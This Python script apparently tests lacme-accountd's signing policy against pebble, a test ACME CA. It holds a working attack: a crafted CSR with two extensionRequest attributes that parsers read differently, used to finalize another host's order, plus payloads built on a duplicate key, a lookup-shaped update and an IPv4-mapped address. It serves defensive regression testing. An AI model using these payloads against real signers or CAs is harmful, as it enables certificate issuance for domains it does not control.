#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Issue 19's first attack, end to end with pebble (not a test by itself: see
accountd_foreign_order.sh).

usage: foreign_order_attack.py DIRECTORY_URL CA_FILE ACCOUNT_KEY ACCOUNTD_SOCKET CHALLENGE_DIR

Two web hosts share one ACME account. The victim (signing with the account key directly, as its
own signer would for its own names) brings an order for victim.example to "ready". The attacker,
whose signer policy allows only web1.example, asks lacme-accountd to sign a finalize of the
victim's order with a CSR that is "CN=web1.example" to a reader of the first extensionRequest
attribute and "SAN=victim.example" to Go's x509.ParseCertificateRequest (which merges them all).
Prints one line per step: CONTROL SIGNED|..., ATTACK REFUSED|ATTACK SIGNED, then, only if it
was signed, ISSUED FOR victim.example|NOT ISSUED, and VICTIM ORDER ready|<status>; then
VALUE, LOOKUP-UPDATE and MAPPED-IPV4 (a second "VALUE" identifier member, a look-up-shaped
contact update, an IPv4-mapped IPv6 address), each REFUSED or SIGNED with the CA's answer.
"""
import base64, hashlib, json, socket, ssl, sys, time, urllib.error, urllib.request

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, utils
from cryptography.x509.oid import NameOID


def b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def der(tag: int, content: bytes) -> bytes:
    n = len(content)
    if n < 0x80:
        length = bytes([n])
    else:
        raw = n.to_bytes((n.bit_length() + 7) // 8, "big")
        length = bytes([0x80 | len(raw)]) + raw
    return bytes([tag]) + length + content


def oid(dotted: str) -> bytes:
    parts = [int(p) for p in dotted.split(".")]
    body = bytes([40 * parts[0] + parts[1]])
    for p in parts[2:]:
        chunk = [p & 0x7F]
        while p > 0x7F:
            p >>= 7
            chunk.insert(0, 0x80 | (p & 0x7F))
        body += bytes(chunk)
    return der(0x06, body)


def two_attribute_csr(names_in_second: str) -> bytes:
    """CN=web1.example; an empty extensionRequest, then one whose SAN is names_in_second."""
    key = ec.generate_private_key(ec.SECP256R1())
    subject = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "web1.example")]).public_bytes()
    spki = key.public_key().public_bytes(serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
    ext_req = "1.2.840.113549.1.9.14"
    san = der(0x30, der(0x82, names_in_second.encode()))
    extensions = der(0x30, der(0x30, oid("2.5.29.17") + der(0x04, san)))
    attributes = sorted([der(0x30, oid(ext_req) + der(0x31, der(0x30, b""))),
                         der(0x30, oid(ext_req) + der(0x31, extensions))])
    info = der(0x30, der(0x02, b"\x00") + subject + spki + der(0xA0, b"".join(attributes)))
    signature = key.sign(info, ec.ECDSA(hashes.SHA256()))
    return der(0x30, info + der(0x30, oid("1.2.840.10045.4.3.2")) + der(0x03, b"\x00" + signature))


class Acme:
    def __init__(self, directory_url: str, ca_file: str, key_file: str):
        self.ctx = ssl.create_default_context(cafile=ca_file)
        self.key = serialization.load_pem_private_key(open(key_file, "rb").read(), None)
        n = self.key.public_key().public_numbers()
        self.jwk = {"crv": "P-256", "kty": "EC", "x": b64(n.x.to_bytes(32, "big")), "y": b64(n.y.to_bytes(32, "big"))}
        self.thumbprint = b64(hashlib.sha256(json.dumps(self.jwk, sort_keys=True, separators=(",", ":")).encode()).digest())
        self.directory = json.loads(self.http(directory_url)[2])
        self.nonce = self.http(self.directory["newNonce"], method="HEAD")[1]["Replay-Nonce"]
        self.kid = None

    def http(self, url, body=None, method=None):
        request = urllib.request.Request(url, data=body, method=method,
                                         headers={"Content-Type": "application/jose+json"} if body else {})
        try:
            with urllib.request.urlopen(request, context=self.ctx, timeout=30) as r:
                status, headers, data = r.status, r.headers, r.read()
        except urllib.error.HTTPError as e:
            status, headers, data = e.code, e.headers, e.read()
        if "Replay-Nonce" in headers:
            self.nonce = headers["Replay-Nonce"]
        return status, headers, data

    def signing_input(self, url: str, payload) -> str:
        header = {"alg": "ES256", "nonce": self.nonce, "url": url}
        header.update({"kid": self.kid} if self.kid else {"jwk": self.jwk})
        body = "" if payload is None else b64(json.dumps(payload).encode())
        return b64(json.dumps(header).encode()) + "." + body

    def sign_directly(self, text: str) -> str:
        r, s = utils.decode_dss_signature(self.key.sign(text.encode(), ec.ECDSA(hashes.SHA256())))
        return b64(r.to_bytes(32, "big") + s.to_bytes(32, "big"))

    def post(self, url: str, payload, signer=None):
        """POST (payload None: POST-as-GET), retrying pebble's random badNonce rejections."""
        for _ in range(10):
            text = self.signing_input(url, payload)
            signature = (signer or self.sign_directly)(text)
            if signature is None:
                return None
            protected, body = text.split(".")
            status, headers, data = self.http(url, json.dumps(
                {"protected": protected, "payload": body, "signature": signature}).encode())
            if status == 400 and b"badNonce" in data:
                continue
            return status, headers, json.loads(data) if data else None
        raise SystemExit("too many badNonce answers")

    def poll(self, url: str, done) -> dict:
        for _ in range(60):
            body = self.post(url, None)[2]
            if done(body["status"]):
                return body
            time.sleep(0.5)
        raise SystemExit(f"{url} stayed {body['status']}")


def accountd_signer(socket_path: str, answers: list):
    """Signs through lacme-accountd (one connection per request: it closes after a refusal)."""
    def sign(text: str):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(30)
        s.connect(socket_path)
        f = s.makefile("rb")
        f.readline(); f.readline()
        s.sendall(text.encode() + b"\r\n")
        line = f.readline().decode()
        s.close()
        answers.append(line)
        return None if line.startswith("NOSIGN") or not line.endswith("\r\n") else line[:-2]
    return sign


def main() -> None:
    directory_url, ca_file, key_file, socket_path, challenge_dir = sys.argv[1:]
    acme = Acme(directory_url, ca_file, key_file)
    status, headers, _ = acme.post(acme.directory["newAccount"], {"termsOfServiceAgreed": True})
    acme.kid = headers["Location"]

    # The victim's order, made ready by the victim host.
    status, headers, order = acme.post(acme.directory["newOrder"], {"identifiers": [{"type": "dns", "value": "victim.example"}]})
    victim_order = headers["Location"]
    for authz_url in order["authorizations"]:
        authz = acme.post(authz_url, None)[2]
        challenge = next(c for c in authz["challenges"] if c["type"] == "http-01")
        with open(f"{challenge_dir}/{challenge['token']}", "w") as f:
            f.write(challenge["token"] + "." + acme.thumbprint)
        acme.post(challenge["url"], {})
        acme.poll(authz_url, lambda s: s != "pending" and s != "processing")
    acme.poll(victim_order, lambda s: s != "pending")

    # The attacker's signer does sign its own names (the policy and the CA prefix are right).
    answers = []
    signer = accountd_signer(socket_path, answers)
    own = acme.post(acme.directory["newOrder"], {"identifiers": [{"type": "dns", "value": "web1.example"}]}, signer)
    print("CONTROL SIGNED" if own and own[0] == 201 else f"CONTROL {answers[-1:]!r} {own!r}")

    # The attack: finalize the victim's ready order with the two-attribute CSR.
    csr = two_attribute_csr("victim.example")
    attack = acme.post(order["finalize"], {"csr": b64(csr)}, signer)
    if attack is None:
        print("ATTACK REFUSED " + answers[-1].strip())
    else:
        print(f"ATTACK SIGNED (the CA answered {attack[0]}: {json.dumps(attack[2])})")
        final = acme.poll(victim_order, lambda s: s != "processing")
        print("ISSUED FOR victim.example" if final["status"] == "valid" else "NOT ISSUED " + final["status"])
    print("VICTIM ORDER " + acme.post(victim_order, None)[2]["status"])

    # The review's other payloads, each read otherwise by the CA's encoding/json than by a
    # case-sensitive or shape-blind reader: signed, the CA would act on what the policy never saw.
    others = [
        ("VALUE", acme.directory["newOrder"],
         {"identifiers": [{"type": "dns", "value": "web1.example", "VALUE": "victim.example"}]}),
        ("LOOKUP-UPDATE", acme.kid, {"onlyReturnExisting": True, "contact": ["mailto:attacker@web1.example"]}),
        ("MAPPED-IPV4", acme.directory["newOrder"], {"identifiers": [{"type": "ip", "value": "::ffff:127.0.0.2"}]}),
    ]
    for name, url, payload in others:
        answer = acme.post(url, payload, signer)
        if answer is None:
            print(f"{name} REFUSED " + answers[-1].strip())
        else:
            print(f"{name} SIGNED (the CA answered {answer[0]}: {json.dumps(answer[2])})")


if __name__ == "__main__":
    main()
